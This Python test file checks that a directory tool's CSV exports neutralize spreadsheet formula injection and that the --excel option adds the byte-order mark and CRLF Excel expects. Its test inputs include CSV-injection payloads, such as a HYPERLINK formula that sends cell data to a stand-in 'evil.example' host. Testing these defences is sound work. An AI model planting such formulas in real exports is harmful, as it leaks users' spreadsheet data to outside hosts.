"""CSV written for people's spreadsheets: a cell that would run as a formula is written as text
(OWASP's rule), `--excel` gives the byte-order mark and CRLF Excel needs, and a file written so reads
back into the same values."""

from __future__ import annotations

import csv
import io
import json

from hypothesis import given
from hypothesis import strategies as st

from directory import entries
from directory.spreadsheet import csv_text, neutralized, restored
from directory.store import Store
from tests.conftest import Cli, entry_record

SECRET = "test-secret-0123456789abcdef"
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


@given(st.text())
def test_restored_undoes_neutralized_for_every_value(value: str) -> None:
    assert restored(neutralized(value)) == value


def test_formula_leads_are_written_as_text_and_nothing_else_changes() -> None:
    assert [neutralized(v) for v in FORMULAS] == [f"'{v}" for v in FORMULAS]
    assert [neutralized(v) for v in ["", "a=b", "Медуза", "1-2", "'quoted", "''"]] == [
        "",
        "a=b",
        "Медуза",
        "1-2",
        "''quoted",
        "'''",
    ]


def test_excel_text_has_a_byte_order_mark_and_crlf_rows_but_keeps_line_breaks_in_cells() -> None:
    text = csv_text(["a", "b"], [["x\ny", "Ж"]], excel=True)
    assert text == '\ufeffa,b\r\n"x\ny",Ж\r\n'
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert rows == [["a", "b"], ["x\ny", "Ж"]]


def _csv_rows(output: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(output.removeprefix("\ufeff"), newline="")))


def test_entries_list_search_and_history_neutralize_formula_cells(cli: Cli, store: Store) -> None:
    note = '=HYPERLINK("http://evil.example/","click")'
    with store.session() as session:
        entries.add_entry(session, entry_record(), entries.Actor("tester", "cli"))
        entries.edit_entry(session, "test-org", {"status_note": note}, entries.Actor("tester", "cli"))
    for command in (("entries", "list"), ("entries", "search", "lawyers")):
        result = cli(*command, "--format", "csv")
        assert result.exit_code == 0, result.output
        assert _csv_rows(result.output)[0]["status_note"] == f"'{note}"
    history = _csv_rows(cli("entries", "history", "test-org", "--format", "csv").output)
    assert {row["new"] for row in history if row["field"] == "status_note"} == {f"'{note}"}
    as_json = json.loads(cli("entries", "list", "--format", "json").output)
    assert as_json[0]["status_note"] == note  # JSON is for programs: the value as it is


def test_excel_option_writes_bom_and_crlf_and_needs_csv(cli: Cli, store: Store) -> None:
    with store.session() as session:
        entries.add_entry(session, entry_record(), entries.Actor("tester", "cli"))
    result = cli("entries", "list", "--format", "csv", "--excel")
    assert result.exit_code == 0
    assert result.stdout_bytes.startswith("\ufeff".encode()) and b"\r\n" in result.stdout_bytes
    assert b"\n" not in result.stdout_bytes.replace(b"\r\n", b"")
    assert _csv_rows(result.output)[0]["name.ru"] == "Тестовая юридическая помощь"
    refused = cli("entries", "list", "--excel")
    assert (refused.exit_code, refused.output) == (2, "--excel goes with --format csv\n")


def test_subscribers_export_neutralizes_and_import_restores(cli: Cli, tmp_path: object) -> None:
    env = {"NANSEN_SECRET": SECRET}
    people = ["=1+1@example.org", "-x@example.org", "'q@example.org", "plain@example.org"]
    for address in people:
        added = cli("subscribers", "add", "--lang", "ru", "--confirmed", "--note", "phone call", "--", address, env=env)
        assert added.exit_code == 0, added.output
    exported = cli("subscribers", "export", "--excel", env=env)
    assert exported.stdout_bytes.startswith("\ufeff".encode())
    emails = [row["email"] for row in _csv_rows(exported.output)]
    assert sorted(emails) == sorted(["'=1+1@example.org", "'-x@example.org", "''q@example.org", "plain@example.org"])
    for address in people:
        assert cli("subscribers", "forget", "--", address, env=env).exit_code == 0
    path = tmp_path / "people.csv"  # type: ignore[operator]
    path.write_bytes(exported.stdout_bytes)
    imported = cli("subscribers", "import", str(path), "--note", "moved back", env=env)
    assert imported.exit_code == 0, imported.output
    listed = json.loads(cli("subscribers", "list", "--format", "json").output)
    assert sorted(row["email"] for row in listed) == sorted(people)
